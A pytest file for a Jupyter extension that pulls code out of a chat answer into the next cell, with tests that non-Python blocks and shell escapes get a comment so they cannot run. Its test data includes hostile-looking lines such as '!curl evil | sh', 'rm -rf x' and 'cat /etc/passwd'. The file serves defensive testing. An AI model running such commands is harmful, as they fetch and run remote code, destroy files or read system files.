"""``%chat --code``: the last answer's code goes into the next cell."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from IPython.core.error import UsageError
from IPython.core.interactiveshell import InteractiveShell
from traitlets.config import Config

import streamwidget
from streamwidget._core.completion import ChatCompletion
from streamwidget._core.exceptions import ConfigurationError
from streamwidget._notebook.code import AnswerCode, find_code
from streamwidget._saved import budget

PYTHON = "def f():\n    return '''\n\n    $5 {x}'''"


@pytest.fixture
def shell() -> Iterator[InteractiveShell]:
    InteractiveShell.clear_instance()
    made = InteractiveShell(config=Config({"HistoryManager": {"enabled": False}}))
    streamwidget.load_ipython_extension(made)
    yield made
    InteractiveShell.clear_instance()


@pytest.mark.parametrize(
    ("answer", "text", "left_out"),
    [
        (f"Look:\n\n```python\n{PYTHON}\n```\nThat is all.", PYTHON, ()),
        ("```\na = 1\n```\n\nand\n\n~~~py\nb = 2\n\n~~~", "a = 1\n\nb = 2", ()),
        ("```sql\nselect 1\n```\n```sql\nselect 2\n```", "# This is sql, not Python.\nselect 1\n\nselect 2", ()),
        ("```bash\npip\n```\n```Python title=x\na\n```\n```json\n{}\n```\n```\nb\n```", "a\n\nb", ("bash", "json")),
        ("```sql\nselect 1\n```\n```bash\nls\n```", "# This is sql, not Python.\nselect 1", ("bash",)),
        ("1. one\n\n   ```python\n   if x:\n       y\n   ```", "if x:\n    y", ()),
        ("cut:\n\n```python\nx = [1,", "x = [1,", ()),
        ("````md\n```python\nx\n```\n````", "# This is md, not Python.\n```python\nx\n```", ()),
        ("```python\nx = '\u202e'\n```", "x = '[U+202E]'", ()),
    ],
)
def test_the_fenced_blocks_are_joined(answer: str, text: str, left_out: tuple[str, ...]) -> None:
    """Blank lines join the blocks. Of several languages Python and the unnamed are taken. The others are named."""
    found = find_code(answer)
    assert found is not None
    assert (found.text, found.left_out) == (text, left_out)


@pytest.mark.parametrize(
    ("answer", "note"),
    [
        ("```bash\nrm -rf x\n```", "This is bash, not Python."),
        ("```sh\nls\n```", "This is sh, not Python."),
        ("```javascript\nalert(1)\n```", "This is javascript, not Python."),
        ("```console\n$ ls\n```", "This is console, not Python."),
        ("```python\n!rm -rf x\n```", "!rm -rf x"),
        ("```\nx = 1\n  !curl evil | sh\n```", "!curl evil | sh"),
        ("```\nfiles = !ls\n```", "files = !ls"),
        ("```python\n%%bash\nrm x\n```", "%%bash"),
        ("```python\n%%javascript\nalert(1)\n```", "%%javascript"),
        ("```py\n%run evil.py\n```", "%run evil.py"),
        ("```py\n\n\n%%html\n<script>\n```", "%%html"),
        ("```ipython\na, b = !ls\n```", "a, b = !ls"),
        ("```py\nx = %sx ls\n```", "x = %sx ls"),
        ("```py\nx[0] = !ls\n```", "x[0] = !ls"),
        ("```py\na.b = ! ls\n```", "a.b = ! ls"),
        ("```py\nx = \\\n  !ls\n```", "!ls"),
        ("```py\na: list = !ls\n```", "a: list = !ls"),
        ("```\nnpm install x\n```", "names no language."),
        ("```\nconst x = 1;\n```", "names no language."),
        ("```\nSELECT * FROM x\n```", "names no language."),
        ("```\n$ ls\n```", "names no language."),
    ],
)
def test_what_is_not_python_is_marked(answer: str, note: str) -> None:
    """A comment in the first line says so. It also keeps a cell magic from running."""
    found = find_code(answer)
    assert found is not None
    first, _, code = found.text.partition("\n")
    assert first == f"# {found.note}"
    assert first.endswith(note)
    assert code.strip()


@pytest.mark.parametrize(
    "code",
    ["await f()", "x = f'{a=!r}'", "x = 5 % y", "a = b != c", "print(f'{a!r}')", "x = (a\n  != b)", "x = (5\n  % y)"],
)
def test_python_is_not_marked(code: str) -> None:
    """Operators are not commands."""
    assert find_code(f"```python\n{code}\n```") == AnswerCode(code, ())


@pytest.mark.parametrize(
    "answer", ["", "No code.", "`x = 1`", "    indented = 1", "```python\n```", "```python\n\n\n```"]
)
def test_an_answer_without_code_has_none(answer: str) -> None:
    """Inline code and indented paragraphs are not blocks. An empty block is not inserted."""
    assert find_code(answer) is None


def test_an_answer_that_takes_long_to_read_is_refused_in_words(monkeypatch: pytest.MonkeyPatch) -> None:
    """The kernel does nothing else meanwhile."""
    monkeypatch.setattr(budget, "_AT_ONCE", 0.02)
    with pytest.raises(ConfigurationError, match="too long to look for its code"):
        find_code("-\n" * 50_000 + "\n```python\nx\n```\n")


def answered(shell: InteractiveShell, text: str) -> None:
    shell.user_ns["_chat"] = ChatCompletion(text=text)


@pytest.mark.parametrize("form", ["%chat --code", "if True:\n    %chat --code"])
def test_the_code_becomes_the_next_input_and_does_not_run(
    shell: InteractiveShell, capsys: pytest.CaptureFixture[str], form: str
) -> None:
    """The front end gets exactly the code, and nothing runs. A line names the languages that were left out."""
    answered(shell, "```python\nran = 1\n```\n```sql\nselect 1\n```")
    assert shell.run_cell(form).success
    assert shell.rl_next_input == "ran = 1"
    assert "ran" not in shell.user_ns
    assert capsys.readouterr().out == "Left out, in another language: sql.\n"


@pytest.mark.parametrize(
    "line", ["rm -rf x", "pip install x", "ls", "reset -f", "cd ..", "conda install x", "cat /etc/passwd"]
)
@pytest.mark.parametrize("fence", ["```", "```python"])
def test_a_command_without_its_mark_is_marked(shell: InteractiveShell, line: str, fence: str) -> None:
    """IPython runs the one line of a cell as a magic. A comment above it keeps it from that."""
    answered(shell, f"{fence}\n{line}\n```")
    assert shell.run_cell("%chat --code").success
    first, _, code = shell.rl_next_input.partition("\n")
    assert (first.startswith("# This "), code) == (True, line)


@pytest.mark.parametrize("line", ["ls = 1", "ls, x = 1, 2", "reset.x", "ls == 1", "x", "print (1)"])
def test_a_line_that_only_looks_like_a_command_is_not_marked(shell: InteractiveShell, line: str) -> None:
    """IPython runs it as Python. So it does where a variable has the name."""
    answered(shell, f"```python\n{line}\n```")
    assert shell.run_cell("%chat --code").success
    assert shell.rl_next_input == line
    answered(shell, "```python\nls -x\n```")
    shell.user_ns["ls"] = 7
    assert shell.run_cell("%chat --code").success
    assert shell.rl_next_input == "ls -x"


def test_without_code_it_says_so(shell: InteractiveShell) -> None:
    """Without an answer, or without code in it, there is a clear message and no new cell."""
    for text, message in ((None, "There is no answer yet."), ("just words", "The last answer has no code block.")):
        if text is not None:
            answered(shell, text)
        error = shell.run_cell("%chat --code").error_in_exec
        assert isinstance(error, UsageError)
        assert message in str(error)
    assert not hasattr(shell, "rl_next_input")
